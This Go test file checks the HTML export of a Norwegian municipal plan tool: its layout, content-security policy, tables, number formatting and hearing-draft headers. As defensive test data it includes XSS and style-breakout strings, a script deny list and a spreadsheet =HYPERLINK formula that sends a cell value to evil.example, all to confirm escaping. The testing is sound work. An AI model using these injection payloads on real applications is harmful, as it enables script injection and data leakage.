package export_test

import (
	"regexp"
	"strings"
	"testing"

	"github.com/temaplan/temaplan/export"
)

func TestHTML_Document(t *testing.T) {
	d := testDocument(t)
	out := string(export.HTML(d))
	for _, want := range []string{
		`<!doctype html>`, `<html lang="nb">`,
		// Loads nothing, runs nothing.
		`<meta http-equiv="Content-Security-Policy" content="default-src 'none'; style-src 'unsafe-inline'; img-src data:">`,
		// A4 pages numbered by CSS counters.
		"size: A4;", `counter(page)`, `counter(pages)`,
		// The cover.
		`<p class="municipality">Demo kommune</p>`, `<h1>Temaplan om bolig 2027–2030</h1>`, "Temaplan · Planperiode 2027–2030",
		"<dd>Gjeldende tekst</dd>", "<dt>Fase</dt><dd>Utkast</dd>", "<dd>28. november 2026</dd>",
		// The table of contents, numbered, and the numbered sections.
		`<nav class="toc"`, `<a href="#s-3-2-2"><span class="num">3.2.2</span> Tiltak</a>`,
		`<a href="#s-6"><span class="num">6</span> Målekort</a>`, `<a href="#s-7"><span class="num">7</span> Økonomisk oversikt</a>`,
		`<section class="chapter" id="s-1">` + "\n" + `<h2><span class="num">1</span> Innledning</h2>`,
		`<h4><span class="num">3.1.1</span> Situasjonsbeskrivelse</h4>`,
		// The text: headings below the section's, formats, lists, links, quote, table.
		"<h3>" + introHeading + "</h3>", "<strong>gode boliger</strong>", "<em>alle</em>",
		`<a href="https://www.husbanken.no/" rel="noopener noreferrer">Husbanken</a>`,
		"<ul><li>Første punkt</li><li>Andre punkt</li></ul>", "<ol><li>Steg én</li><li>Steg to</li></ol>",
		"<blockquote><p>Et sitat fra innbyggerundersøkelsen.</p>", "<td>" + tableCell + "</td><td>312</td>",
		// The embedded measure and a deleted one.
		"<strong>Tiltak: " + measureTitle + "</strong>", "<li>Kostnader: investering 0, drift 1\u00a0800\u00a0000, sum 1\u00a0800\u00a0000</li>",
		"<p>Tiltaket er slettet</p>",
		// A target area's goals, strategies and measures.
		"Mål, strategier og tiltak i «Generell boligutvikling»", "<li><strong>Samarbeid med utbyggere</strong></li>",
		`<td class="num">25` + "\u00a0000\u00a0000</td>",
		// The scorecard: baseline, targets, latest report, status.
		indicatorName, "120\u00a0antall i 2024", "150\u00a0antall i 2027, 180\u00a0antall i 2030", "138\u00a0antall<br><small>31. desember 2025</small>",
		`<td class="status status-on_track">På sporet</td>`, "47,5\u00a0antall", `<td class="status status-off_track">Utenfor sporet</td>`,
		// The economics: per year, per area, per measure and year, totals.
		"<th scope=\"row\">2028</th><td class=\"num\">33\u00a0000\u00a0000</td><td class=\"num\">800\u00a0000</td><td class=\"num\">33\u00a0800\u00a0000</td>",
		"<th scope=\"row\">Sum for perioden</th><td class=\"num\">75\u00a0000\u00a0000</td><td class=\"num\">2\u00a0150\u00a0001</td><td class=\"num\">77\u00a0150\u00a0001</td>",
		"Per tiltak og år", `<tr class="subtotal"><td>Sum</td><td class="num">50` + "\u00a0000\u00a0000</td>",
	} {
		if !strings.Contains(out, want) {
			t.Errorf("the HTML lacks %q", want)
		}
	}
	for _, bad := range []string{"<script", "javascript:", `href="javascript`, "@top-center", "Høringsfrist"} {
		if strings.Contains(strings.ToLower(out), strings.ToLower(bad)) {
			t.Errorf("the HTML holds %q", bad)
		}
	}
	if !strings.Contains(out, "&lt;script&gt;alert(&#39;x&#39;)&lt;/script&gt; &amp; farlig lenke") {
		t.Error("markup typed in the text is not shown escaped")
	}
	if !strings.Contains(out, "=HYPERLINK(&#34;http://evil.example/?x=&#34;&amp;A1,&#34;Klikk&#34;)") {
		t.Error("the measure titled like a formula is not shown as escaped text")
	}
}

func TestHTML_HearingVersion(t *testing.T) {
	d := testDocument(t)
	d.Version, d.Hearing, d.HearingDeadline = "Høringsutkast", true, "2027-05-15"
	out := string(export.HTML(d))
	for _, want := range []string{
		"<title>Temaplan om bolig 2027–2030 – Høringsutkast</title>",
		`<p class="hearing"><strong>Høringsutkast</strong> · Høringsfrist: 15. mai 2027</p>`,
		"<dt>Versjon</dt><dd>Høringsutkast</dd>",
		// The header of every page, as CSS escapes.
		`@top-center { content: "H\f8 ringsutkast \2013  h\f8 ringsfrist 15\2e  mai 2027";`,
	} {
		if !strings.Contains(out, want) {
			t.Errorf("the hearing version lacks %q", want)
		}
	}
	if strings.Contains(out, "<dt>Fase</dt>") {
		t.Error("a version shows the plan's phase of now")
	}
	// Without a known deadline the header names the version only.
	d.HearingDeadline = ""
	out = string(export.HTML(d))
	if strings.Contains(out, "frist") || !strings.Contains(out, `@top-center { content: "H\f8 ringsutkast";`) {
		t.Errorf("without a deadline: %s", regexp.MustCompile(`@top-center[^}]*}`).FindString(out))
	}
}

// TestHTML_HostileTitle checks that a title cannot leave the CSS string,
// the style element or the title element it is written into.
func TestHTML_HostileTitle(t *testing.T) {
	d := testDocument(t)
	d.Plan.Title = `x"; } body { display:none } </style><script>alert(1)</script><style>`
	d.Municipality = `</p><img src=x onerror=alert(1)>`
	d.Hearing = true
	out := string(export.HTML(d))
	if strings.Count(out, "</style>") != 1 || strings.Contains(out, "<script") || strings.Contains(out, "<img") {
		t.Fatalf("a hostile title escapes:\n%s", out[:min(len(out), 3000)])
	}
	if !strings.Contains(out, `@bottom-left { content: "x\22 \3b  \7d  body \7b  display\3a none \7d  \3c \2f style\3e`) {
		t.Errorf("the title is not a CSS string of escapes: %s", regexp.MustCompile(`@bottom-left[^;]*;`).FindString(out))
	}
}

func TestNumbers(t *testing.T) {
	for _, c := range []struct {
		got, want string
	}{
		{export.Kroner(0), "0"}, {export.Kroner(999), "999"}, {export.Kroner(1000), "1\u00a0000"},
		{export.Kroner(77_150_001), "77\u00a0150\u00a0001"}, {export.Kroner(-1_500_000), "\u22121\u00a0500\u00a0000"},
		{export.Kroner(1_000_000_000_000), "1\u00a0000\u00a0000\u00a0000\u00a0000"},
		{export.Number(12.5), "12,5"}, {export.Number(1234), "1\u00a0234"}, {export.Number(-3), "\u22123"},
		{export.Number(0.1 + 0.2), "0,3"}, {export.Number(-0.0000001), "0"}, {export.Number(1234567.25), "1\u00a0234\u00a0567,25"},
	} {
		if c.got != c.want {
			t.Errorf("got %q, want %q", c.got, c.want)
		}
	}
}
